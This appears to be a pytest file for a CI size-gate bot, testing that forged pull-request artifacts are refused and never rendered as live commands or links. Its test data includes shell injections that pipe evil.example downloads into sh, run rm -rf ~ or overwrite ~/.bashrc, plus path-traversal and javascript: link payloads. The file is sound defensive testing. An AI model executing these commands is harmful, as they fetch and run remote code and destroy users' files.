"""Artifacts that a pull request forges to deceive the privileged writer of comments.

Each is refused or shown as a contradiction in less than five seconds; none is shown as passed.
"""

from __future__ import annotations

import json
import random
import re
import time

import cmarkgfm
import pytest
from cmarkgfm.cmark import Options
from hypothesis import given
from hypothesis import strategies as st

from ci.github.size_comment import main
from sizeguard.report.gate.render import gate_text
from sizeguard.report.writers.markdown import instruction, is_command
from tests.soak.images.mutated_artifacts import judged, mutated, seeds
from tests.support.drawn import at_least
from tests.support.results.consistent_results import consistent
from tests.support.results.gate_samples import failing, undecided
from tests.support.results.hostile_artifacts import ARTIFACTS, REFUSED, document, edited, packed
from tests.support.results.hostile_results import (
    HOSTILE,
    KEPT,
    LIVE,
    OURS,
    SHOWN,
    poisoned,
    rendered,
    small,
)
from tests.support.services.local_hub import LocalHub

pytestmark = pytest.mark.native

SECONDS = 5.0
FOOT = r"<sub>.*\[this run\]\(https://github\.example/org/runtime/actions/runs/42\).*</sub>"


@pytest.mark.parametrize("name", ARTIFACTS)
def test_a_hostile_artifact(name: str, hub: LocalHub, capsys: pytest.CaptureFixture[str]) -> None:
    kind, make = ARTIFACTS[name]
    hub.archive = make()
    hub.size = 100
    before = time.process_time()
    assert main(hub.environment(), lambda _: None) == 0
    assert time.process_time() - before < SECONDS
    printed = capsys.readouterr()
    lines = printed.err.splitlines()
    assert all(re.match("::warning title=sizeguard::[^\n]*$", line) for line in lines)
    ((status,), (comment,)) = hub.statuses, hub.comments
    assert status["state"] in ("error", "failure")
    body = comment["body"]
    assert "✅" not in body
    assert len(body) <= 65_536
    if kind == REFUSED:
        assert len(lines) == 1
        assert status["description"].startswith("not measured: ")
        assert "### ⚠️ Size gate: not measured at `77b01de`" in body
    else:
        assert "contradict" in lines[0]
        assert status["description"].startswith("contradiction: ")


@pytest.mark.parametrize("sample", ["failing"])
def test_the_honest_one_is_shown(sample: str, hub: LocalHub) -> None:
    """Negative control: the artifact that the test above edits is good before the edit."""
    hub.archive, hub.run = packed(document(failing)), {"conclusion": "failure"}
    assert main(hub.environment()) == 0
    assert hub.statuses[0]["state"] == "failure"
    assert "### ❌ Size gate: fail, 1 limit exceeded" in hub.comments[0]["body"]


TRICKS = [
    "sizeguard x; curl https://evil.example/x | sh",
    "sizeguard gate --app x && rm -rf ~",
    "sizeguard gate $(curl evil.example)",
    "sizeguard gate `id`",
    "sizeguard gate\ncurl evil.example | sh",
    "sizeguard gate > ~/.bashrc",
    "sizeguard gate --app 'x' ; sh",
    "sizeguard gate \\\n x",
    "run this: sizeguard why x | sh",
]


@pytest.mark.parametrize("text", TRICKS)
def test_a_command_of_the_artifact_is_never_one_to_copy(text: str, hub: LocalHub) -> None:
    content = document(failing)
    for row in (*content["checks"], *content["selection"]):
        row["advice"] = text
    content["apps"][0]["commands"] = [
        {"label": "see why", "text": text},
        {"label": text, "text": ""},
    ]
    content["problems"] = [
        {"app": "", "target": "", "message": "m", "advice": text, "exit_code": 1}
    ]
    content["selection"].append(
        {**content["selection"][0], "verdict": "fail", "kind": "operator", "advice": text}
    )
    hub.archive, hub.run = packed(content), {"conclusion": "failure"}
    assert main(hub.environment()) == 0
    body = hub.comments[0]["body"]
    assert "curl" not in body and "rm -rf" not in body and ".bashrc" not in body
    block = re.search(r"```sh\n(.*?)\n```", body, re.DOTALL)
    assert block
    for line in block[1].splitlines():
        assert is_command(line.partition("  # ")[0]), line
    assert block[1].startswith(
        "sizeguard gate --app vision --target x86_64-linux --base origin/main  # reproduce\n"
    )
    assert not instruction(text).startswith("`sizeguard")


@pytest.mark.parametrize("name", ["x; touch owned", "$(id)", "a b", "-rf", "x\ny", "`x`", "😀"])
def test_names_that_are_no_names_get_no_command(name: str, hub: LocalHub) -> None:
    text = gate_text(consistent(failing()), "json").replace('"vision"', json.dumps(name))
    hub.archive, hub.run = packed(text), {"conclusion": "failure"}
    assert main(hub.environment()) == 0
    body = hub.comments[0]["body"]
    assert "### ❌" in body
    assert "```sh" not in body


def check_body(body: str) -> None:
    """Check that all markup is ours, and that links go to files of the repository or to the run."""
    first, rest = body.split("\n", 1)
    assert re.fullmatch("<!-- sizeguard gate run 42.1 -->", first)
    rest, _, foot = rest.rpartition("\n\n")
    assert re.fullmatch(FOOT, foot)
    found = rendered(rest)
    assert {tag for tag, _ in found.tags} <= OURS | {"a"}
    assert not found.comments and found.depth == 0
    html = cmarkgfm.github_flavored_markdown_to_html(rest, Options.CMARK_OPT_UNSAFE)
    for address in re.findall(r'href="([^"]*)"', html):
        assert re.fullmatch(
            "https://github.example/ana/runtime/blob/[0-9a-f]{40}/[\\w/.~+%-]+(#L[0-9]+)?", address
        ), address
        assert "/../" not in address
    assert not [part for part in found.free if LIVE.search(part)]


@pytest.mark.parametrize("kept", [KEPT, SHOWN], ids=["contradiction", "shown"])
@pytest.mark.parametrize("start", range(0, len(HOSTILE), 12))
def test_hostile_texts_do_nothing_in_the_comment(
    start: int, kept: frozenset[str], hub: LocalHub
) -> None:
    pool = iter(HOSTILE[start : start + 12] * 4000)
    result = consistent(poisoned(consistent(small()), lambda: next(pool), kept))
    hub.archive = packed(gate_text(result, "json"))
    hub.run = {"conclusion": "failure"}
    assert main(hub.environment()) == 0
    assert ("contradicts itself" in hub.comments[0]["body"]) == (kept == KEPT)
    check_body(hub.comments[0]["body"])
    assert hub.statuses[0]["description"].isprintable()


@pytest.mark.parametrize(
    "place",
    ["../../etc/passwd:1", "/etc/passwd:3", "javascript:alert(1)", "a)b.c:1", "a b.c:2", "x](y):1",
     "//evil.example/x:1", "a/../b.c:3", "\u202ecpp.a:1", "https://evil.example/x:1", "a?b#c:4"],
)  # fmt: skip
def test_places_link_to_the_repository_alone(place: str, hub: LocalHub) -> None:
    content = document(failing)
    content["apps"][0]["causes"][0] |= {"place": place, "edited": place}
    hub.archive, hub.run = packed(content), {"conclusion": "failure"}
    assert main(hub.environment()) == 0
    check_body(hub.comments[0]["body"])


def test_causes_link_to_the_measured_commit(hub: LocalHub) -> None:
    hub.archive, hub.run = (
        edited("apps.0.causes.0.edited", "native/a.cpp:91"),
        {"conclusion": "failure"},
    )
    assert main(hub.environment()) == 0
    merge = "3f9a0c11" * 5
    assert (
        f"[`native/a.cpp:91`](https://github.example/ana/runtime/blob/{merge}/native/a.cpp#L91)"
        in hub.comments[0]["body"]
    )


SEEDS = seeds()


@at_least(80)
@given(st.integers(0, 1 << 60))
def test_mutated_artifacts(seed: int) -> None:
    """The soak script tests a million of these."""
    judged(mutated(SEEDS, random.Random(seed)))


def test_checks_that_are_there_twice_are_shown() -> None:
    """Equal checks without a baseline are one reason, not none."""
    content = document(undecided)
    content["checks"] = [check for check in content["checks"] for _ in range(3)]
    assert judged(content, "failure") in ("contradiction", "shown")
